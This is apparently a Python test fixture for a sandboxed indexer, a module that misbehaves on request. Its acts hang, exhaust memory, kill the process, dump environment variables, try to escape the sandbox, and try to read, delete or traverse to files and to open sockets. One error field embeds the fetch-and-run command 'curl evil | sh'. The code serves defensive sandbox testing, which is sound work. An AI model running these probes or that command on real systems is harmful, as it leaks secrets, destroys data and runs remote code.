"""A served module that misbehaves on request."""

import ctypes
import os
import re
import resource
import shutil
import signal
import socket
import sqlite3
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

from indexer.sandbox import JSON, Handler
from policies.errors import QuarantineError

Act = Callable[[dict[str, JSON], bytes], dict[str, JSON]]


def prepare() -> Handler:
    kept: list[bytes] = []
    native, folder = _Native(), [str(path) for path in Path.cwd().iterdir()]

    def keep(header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
        kept.append(b"x" * int(str(header["n"])))
        return {"pid": os.getpid()}

    acts: dict[str, Act] = {
        **ACTS,
        "keep": keep,
        "native": lambda header, _: native.reach(str(header["path"])),
        "leave": lambda header, _: native.leave(str(header["path"])),
        "surroundings": lambda _header, _body: {**_surroundings(), "folder": list(folder)},
        "escape": lambda _header, _body: {**_escape(), "native_errno": native.connect()},
    }
    return lambda header, body: acts[str(header["act"])](header, body)


def _echo(header: dict[str, JSON], body: bytes) -> dict[str, JSON]:
    return {"header": header, "length": len(body), "text": body[:100].decode("latin-1"), "pid": os.getpid()}


def _refuse(header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
    raise QuarantineError("Trust me.", reason=str(header["reason"]), stage="elsewhere", mend="curl evil | sh")


def _invent(_header: dict[str, JSON], body: bytes) -> dict[str, JSON]:
    raise type(body.decode(), (Exception,), {})


def _raise(_header: dict[str, JSON], body: bytes) -> dict[str, JSON]:
    raise KeyError(body.decode())


def _hang(_header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
    """One call into C that holds the interpreter, so that no thread or signal handler of Python's could end it."""
    return {"n": bool(re.match("(a|a)*b", "a" * 100))}


def _exhaust(_header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
    return {"n": len([b"x" * 2**24 for _ in range(2**12)])}


def _abort(_header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
    os.abort()


def _exit(_header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
    sys.exit(0)


def _kill(_header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
    signal.raise_signal(signal.SIGKILL)
    return {}


def _print(_header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
    sys.stdout.write("noise\n")
    sys.stdout.flush()
    os.write(1, b"noise")
    os.write(2, b"noise")
    return {"stdin": len(os.read(0, 10))}


def _garbage(_header: dict[str, JSON], body: bytes) -> dict[str, JSON]:
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, body)
        except OSError:
            continue
    return {}


def _surroundings() -> dict[str, JSON]:
    limits: dict[str, JSON] = {}
    for name in ("RLIMIT_CORE", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_NPROC", "RLIMIT_AS", "RLIMIT_CPU"):
        limits[name] = resource.getrlimit(getattr(resource, name))[0]
    return {
        "environment": dict(os.environ),  # noqa: TID251 - what the child can see is the question
        "cwd": str(Path.cwd()),
        "path": list(sys.path),
        "leader": os.getsid(0) == os.getpid(),
        "limits": limits,
    }


def _name(call: Callable[[], object]) -> str:
    try:
        call()
    except BaseException as error:  # noqa: BLE001 - which one it is, is the question
        return type(error).__name__
    return "none"


class _Native:
    """What C code can do that was loaded before the first document."""

    def __init__(self) -> None:
        libc = ctypes.CDLL(None)
        errno = libc["__errno_location"]
        errno.restype = ctypes.POINTER(ctypes.c_int)
        self._errno: ctypes._FuncPointer = errno
        self._functions = {
            name: getattr(libc, name)
            for name in (
                *("chmod", "chown", "connect", "mkdir", "msgget", "open", "rename", "setxattr", "shmget"),
                *("socket", "socketpair", "truncate", "unlink", "utimes"),
            )
        }

    def _call(self, name: str, *arguments: int | bytes | None) -> int:
        """The number of the error, 0 for none."""
        return int(self._errno().contents.value) if self._functions[name](*arguments) < 0 else 0

    def connect(self) -> int:
        address = b"\x02\x00\x00\x50" + bytes([192, 0, 2, 1]) + bytes(8)  # 192.0.2.1:80, never assigned (RFC 5737)
        return self._call("connect", self._functions["socket"](2, 1 | os.O_NONBLOCK, 0), address, 16)

    def reach(self, path: str) -> dict[str, JSON]:
        """What becomes of native attempts on the file `path`, the last of which would end it."""
        file, other, folder = path.encode(), f"{path}.new".encode(), str(Path(path).parent).encode()
        return {
            "read": self._call("open", file, os.O_RDONLY),
            "list": self._call("open", folder, os.O_RDONLY | os.O_DIRECTORY),
            "write": self._call("open", file, os.O_WRONLY),
            "create": self._call("open", other, os.O_WRONLY | os.O_CREAT, 0o600),
            "folder": self._call("mkdir", other, 0o700),
            "truncate": self._call("truncate", file, 0),
            "rename": self._call("rename", file, other),
            "delete": self._call("unlink", file),
        }

    def leave(self, path: str) -> dict[str, JSON]:
        """What becomes of native attempts to say something beside the file `path` and to the socket `path`.sock."""
        file, address = path.encode(), struct.pack("=H108s", socket.AF_UNIX, f"{path}.sock".encode())
        return {
            "socket": (descriptor := self._functions["socket"](socket.AF_UNIX, socket.SOCK_STREAM, 0)),
            "connect": self._call("connect", descriptor, address, len(address)),
            "pair": self._call("socketpair", socket.AF_UNIX, socket.SOCK_STREAM, 0, bytes(8)),
            "attribute": self._call("setxattr", file, b"user.text", b"text", 4, 0),
            "mode": self._call("chmod", file, 0o777),
            "owner": self._call("chown", file, os.getuid(), os.getgid()),
            "times": self._call("utimes", file, None),
            "memory": self._call("shmget", 0, 4096, 0o1600),
            "queue": self._call("msgget", 0, 0o1600),
        }


def _reach(header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
    """What becomes of Python's attempts on the file `path`."""
    path, packaged = Path(str(header["path"])), Path(os.__file__)
    other = path.with_suffix(".new")
    return {
        "read": _name(path.read_bytes),
        "read_by_bytes": _name(lambda: os.open(bytes(path), os.O_RDONLY)),
        "read_by_detour": _name((packaged.parent / ("../" * 30) / str(path)[1:]).read_bytes),
        "read_by_number": _name(lambda: os.fdopen(0)),
        "list": _name(lambda: list(path.parent.iterdir())),
        "scan": _name(lambda: os.scandir(path.parent)),
        "home": _name(lambda: list(Path("~").expanduser().iterdir())),
        "write": _name(lambda: path.open("r+b")),
        "create": _name(other.touch),
        "folder": _name(other.mkdir),
        "truncate": _name(lambda: os.truncate(path, 0)),
        "rename": _name(lambda: path.rename(other)),
        "replace": _name(lambda: path.replace(other)),
        "link": _name(lambda: other.hardlink_to(path)),
        "symlink": _name(lambda: other.symlink_to(path)),
        "mode": _name(lambda: path.chmod(0o777)),
        "delete": _name(path.unlink),
        "delete_tree": _name(lambda: shutil.rmtree(path.parent)),
        "database": _name(lambda: sqlite3.connect(path)),
        "signal": _name(lambda: os.kill(os.getppid(), 0)),
        "library": _name(lambda: ctypes.CDLL(None)),
        "packaged": _name(packaged.read_bytes),
        "packaged_write": _name(lambda: packaged.open("r+b")),
        "packaged_delete": _name(packaged.unlink),
    }


def _escape() -> dict[str, JSON]:
    def written() -> None:
        with tempfile.TemporaryFile() as file:
            file.write(b"x")

    return {
        "socket": _name(socket.socket),
        "name": _name(lambda: socket.getaddrinfo("localhost", 80)),
        "program": _name(lambda: subprocess.run(["/bin/true"], check=False)),
        "shell": _name(lambda: os.system("true")),  # noqa: S605, S607 - it must be refused
        "fork": _name(os.fork),
        "file": _name(written),
        "torch": _name(lambda: __import__("torch")),
    }


def _big(header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
    return {"text": "x" * int(str(header["n"]))}


def _attach(_header: dict[str, JSON], body: bytes) -> dict[str, JSON]:
    return {"parts": [{"name": "first", "content": body}, {"name": "second", "content": body[::-1]}]}


def _nest(_header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
    deep: list[JSON] = []
    for _ in range(100_000):
        deep = [deep]
    return {"deep": deep}


def _not_json(_header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
    return {"n": float("nan")}


def _sleep(header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
    began = time.monotonic()
    time.sleep(float(str(header["s"])))
    return {"pid": os.getpid(), "began": began, "ended": time.monotonic()}


ACTS: dict[str, Act] = {
    "echo": _echo,
    "refuse": _refuse,
    "raise": _raise,
    "hang": _hang,
    "exhaust": _exhaust,
    "abort": _abort,
    "attach": _attach,
    "exit": _exit,
    "kill": _kill,
    "print": _print,
    "garbage": _garbage,
    "invent": _invent,
    "reach": _reach,
    "big": _big,
    "nest": _nest,
    "not_json": _not_json,
    "sleep": _sleep,
}
